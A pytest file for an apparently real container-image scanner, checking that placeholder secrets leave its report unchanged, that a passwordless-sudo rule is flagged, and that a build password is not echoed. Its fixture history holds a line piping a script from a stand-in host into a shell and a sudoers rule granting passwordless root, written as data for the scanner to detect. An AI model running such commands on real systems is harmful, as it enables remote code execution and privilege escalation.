"""A word that stands for a secret takes nothing apart of what a report says."""

import json
from pathlib import Path
from typing import Any

import pytest

from ocianalyze.cli.main import run
from tests.archives import Image, docker_archive
from tests.images import File, tar

STAND_INS = ("PASSWORD", "changeme", "your-secret", "my_token", "<password>", "${DB_PASSWORD}")
LINES = (
    "ADD alpine-minirootfs.tar.gz / # buildkit",
    "ARG DB_PASSWORD=Wint3r-Sale-2024",
    "RUN /bin/sh -c echo 'dev ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/dev # buildkit",
    "RUN /bin/sh -c curl http://host.example/secret-token.sh | sh # buildkit",
)


def _controls(folder: Path, capfdbinary: pytest.CaptureFixture[bytes], word: str) -> Any:
    """Return what is said of an image with a manual that shows a call of curl."""
    files: dict[str, File | bytes] = {
        "bin/sh": File(b"\x7fELF", mode=0o755),
        "usr/bin/sudo": File(b"\x7fELF", mode=0o4755),
        "etc/passwd": b"root:x:0:0::/:/bin/sh\ndev:x:1000:1000::/:/bin/sh\n",
        "etc/sudoers": b"@includedir /etc/sudoers.d\n",
        "etc/sudoers.d/dev": b"dev ALL=(ALL) NOPASSWD:ALL\n",
        "opt/curl.1": f"curl -u user:{word} https://example.com".encode().ljust(100),
    }
    history = [{"created_by": line, "empty_layer": line is not LINES[0]} for line in LINES]
    config = {"config": {"Env": ["TOKEN_PATH=/run/token"], "User": "dev"}, "history": history}
    path = docker_archive(folder / "image.tar", [Image([tar(files)], config=config)])
    run(["scan", str(path), "--profile", "all", "-f", "json", "--no-store"])
    controls = json.loads(capfdbinary.readouterr().out)["controls"]
    return [(x["control"], x["summary"], [e["detail"] for e in x["evidence"]]) for x in controls]


@pytest.mark.parametrize("word", STAND_INS)
def test_a_disproved_placeholder_changes_no_text(
    word: str, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    said = _controls(tmp_path, capfdbinary, word)
    assert said == _controls(tmp_path, capfdbinary, "")
    told = json.dumps(said)
    assert "NOPASSWD:ALL" in told
    assert "Wint3r" not in told
